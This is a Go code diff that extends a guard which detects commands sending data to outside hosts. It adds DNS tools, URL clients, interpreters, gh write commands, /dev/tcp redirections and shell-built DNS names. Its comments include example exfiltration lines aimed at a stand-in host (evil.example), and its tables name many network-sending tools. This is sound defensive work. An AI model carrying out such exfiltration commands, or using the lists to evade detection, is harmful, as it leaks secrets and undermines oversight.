@@ -258,6 +258,91 @@ var senders = map[string]func(args []string, cwd string) []string{
 	"aws": cloudDests, "gsutil": cloudDests, "gcloud": cloudDests, "az": cloudDests, "azcopy": cloudDests,
 	"rclone": rcloneDests, "mail": mailDests, "sendmail": mailDests, "mutt": mailDests, "mailx": mailDests,
 	"git": gitDests, "dig": dnsDests, "nslookup": dnsDests, "host": dnsDests, "ping": dnsDests,
+	"drill": dnsDests, "kdig": dnsDests, "delv": dnsDests, "getent": dnsDests, "resolvectl": dnsDests,
+	// Other URL clients: browsers in a terminal, WebSocket, gRPC and load
+	// tools.
+	"lynx": urlDests, "w3m": urlDests, "links": urlDests, "elinks": urlDests, "websocat": urlDests,
+	"wscat": urlDests, "grpcurl": urlDests, "ab": urlDests, "hey": urlDests, "wrk": urlDests, "siege": urlDests,
+	"gh": ghDests,
+}
+
+// interpreters run code given inline (python -c, node -e …) or a script:
+// what the code sends is not known, but the URLs it names and the network
+// calls it makes are. They are requests to the hosts of the URLs in their
+// arguments, or to a destination that is not static when the code calls
+// the network without a literal URL.
+var interpreters = []string{"python", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "pwsh", "powershell",
+	"osascript", "lua", "Rscript", "julia", "java", "jshell", "groovy", "tclsh", "awk", "gawk"}
+
+func isInterpreter(name string) bool {
+	for _, p := range interpreters {
+		if name == p || strings.HasPrefix(name, p) && strings.Trim(name[len(p):], "0123456789.") == "" {
+			return true
+		}
+	}
+	return false
+}
+
+// urlInText finds the URLs in a text (inline code, a command line).
+var urlInText = regexp.MustCompile(`(?i)\b(?:https?|wss?|ftps?)://[^\s"'\x60<>(){}\[\]\\]+`)
+
+// netCall matches code that opens a network connection without a literal
+// URL: sockets, HTTP clients, DNS lookups.
+var netCall = regexp.MustCompile(`(?i)urlopen|urllib|requests\.(?:get|post|put|patch)|http\.client|httpx|aiohttp|socket|getaddrinfo|gethostbyname|\bfetch\s*\(|XMLHttpRequest|https?\.(?:get|request)|\bnet\.(?:connect|createConnection)|dns\.(?:lookup|resolve)|LWP|HTTP::Tiny|IO::Socket|Net::HTTP|open-uri|URI\.open|TCPSocket|curl_init|file_get_contents\s*\(\s*['"]https?|fsockopen|stream_socket_client|Invoke-WebRequest|Invoke-RestMethod|iwr\b|irm\b|WebClient|HttpClient|/inet/tcp|do shell script`)
+
+func interpreterDests(args []string, _ string) []string {
+	var out []string
+	for _, x := range args {
+		for _, u := range urlInText.FindAllString(x, -1) {
+			if h := hostOf(u); h != "" {
+				out = appendNew(out, h)
+			}
+		}
+	}
+	if out != nil {
+		return out
+	}
+	for _, x := range args {
+		if netCall.MatchString(x) {
+			return []string{} // a destination that is not static
+		}
+	}
+	return nil
+}
+
+// ghDests: gh commands that send data to GitHub (gists, API writes,
+// issues and pull requests, release uploads, secrets).
+func ghDests(args []string, _ string) []string {
+	w := nonOptions(args)
+	if len(w) < 2 && !(len(w) == 1 && w[0] == "api") {
+		return nil
+	}
+	switch w[0] {
+	case "gist":
+		if w[1] == "create" || w[1] == "edit" {
+			return []string{"gist.github.com"}
+		}
+	case "api":
+		for _, a := range args {
+			if a == "-f" || a == "-F" || a == "--field" || a == "--raw-field" || a == "--input" ||
+				strings.HasPrefix(a, "--field=") || strings.HasPrefix(a, "--raw-field=") || strings.HasPrefix(a, "--input=") {
+				return []string{"api.github.com"}
+			}
+		}
+	case "issue", "pr":
+		if w[1] == "create" || w[1] == "comment" || w[1] == "edit" {
+			return []string{"github.com"}
+		}
+	case "release":
+		if w[1] == "create" || w[1] == "upload" {
+			return []string{"github.com"}
+		}
+	case "secret", "variable":
+		if w[1] == "set" {
+			return []string{"github.com"}
+		}
+	}
+	return nil
 }
 
 // shellRequests are the shell command's sending commands. Each carries the
@@ -268,6 +353,9 @@ func shellRequests(a *action.Action) []request {
 	var out []request
 	for _, c := range a.Facts.Commands {
 		fn, ok := senders[c.Name]
+		if !ok && isInterpreter(c.Name) {
+			fn, ok = interpreterDests, true
+		}
 		if !ok {
 			continue
 		}
@@ -287,6 +375,12 @@ func shellRequests(a *action.Action) []request {
 		parts := []secrets.Part{{Name: "command", Text: cmd}}
 		for _, x := range c.Args {
 			parts = append(parts, secrets.Part{Name: by + " argument", Text: x})
+			if isInterpreter(c.Name) {
+				for _, u := range urlInText.FindAllString(x, -1) {
+					parts = append(parts, urlParts(u)...)
+				}
+				continue
+			}
 			switch {
 			case strings.Contains(x, "://"):
 				parts = append(parts, urlParts(x)...)
@@ -310,6 +404,26 @@ func shellRequests(a *action.Action) []request {
 			}
 			out = append(out, r)
 		}
+	}
+	// Bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT: a redirection to
+	// one is a connection (echo "$T" > /dev/tcp/evil.example/80).
+	for _, p := range a.Facts.Paths {
+		rest, ok := strings.CutPrefix(p.Path, "/dev/tcp/")
+		if !ok {
+			rest, ok = strings.CutPrefix(p.Path, "/dev/udp/")
+		}
+		if !ok {
+			continue
+		}
+		h, _, _ := strings.Cut(rest, "/")
+		if h == "" || strings.ContainsAny(h, "$`") {
+			h = "(/dev/tcp: destination not static)"
+		}
+		r := request{Dest: strings.ToLower(h), By: "a /dev/tcp connection"}
+		if len(out) == 0 {
+			r.Parts = []secrets.Part{{Name: "command", Text: cmd}}
+		}
+		out = append(out, r)
 	}
 	return out
 }
@@ -377,6 +491,10 @@ func looksLikeHost(x string) bool {
 		return false
 	}
 	return true
+}
+
+func hostChar(r rune) bool {
+	return r == '.' || r == '-' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9'
 }
 
 func isIPv4(h string) bool {
@@ -601,6 +719,20 @@ func dnsDests(args []string, _ string) []string {
 		if looksLikeHost(x) && strings.Count(x, ".") >= 3 {
 			labels := strings.Split(strings.TrimSuffix(strings.ToLower(x), "."), ".")
 			out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
+			continue
+		}
+		// A name built by the shell ($T.evil.example, $(…).evil.example):
+		// its labels are data the guard cannot see; the domain is the
+		// literal tail.
+		if strings.ContainsAny(x, "$`") {
+			tail := strings.Trim(x, `"'`)
+			if i := strings.LastIndexFunc(tail, func(r rune) bool { return !hostChar(r) }); i >= 0 {
+				tail = tail[i+1:]
+			}
+			tail = strings.Trim(strings.ToLower(tail), ".")
+			if labels := strings.Split(tail, "."); len(labels) >= 2 && looksLikeHost(tail) {
+				out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
+			}
 		}
 	}
 	if len(out) == 0 {
